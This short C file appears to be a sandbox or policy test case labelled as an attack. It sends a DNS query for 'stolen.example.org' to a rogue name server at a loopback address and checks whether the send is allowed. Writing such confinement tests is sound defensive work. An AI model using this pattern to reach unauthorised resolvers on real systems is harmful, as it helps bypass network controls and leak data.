/* SPDX-License-Identifier: Apache-2.0 */
/* Another name server, which tells whatever suits and takes whatever is asked. */
#define ATTACK "name-foreign-server"
#include "attack.h"
#include "names.h"

int main(int count, char **argument)
{
	unsigned char message[1024];
	struct sockaddr_in server = address_of("127.0.0.9", DNS_PORT);
	int fd = prepare("socket", socket(AF_INET, SOCK_DGRAM, 0));
	size_t bytes = write_question(message, "stolen.example.org");

	(void)count;
	(void)argument;
	intended("sendto", sendto(fd, message, bytes, 0, (void *)&server, sizeof(server)));
	expect_answer("sendto", fd);
}
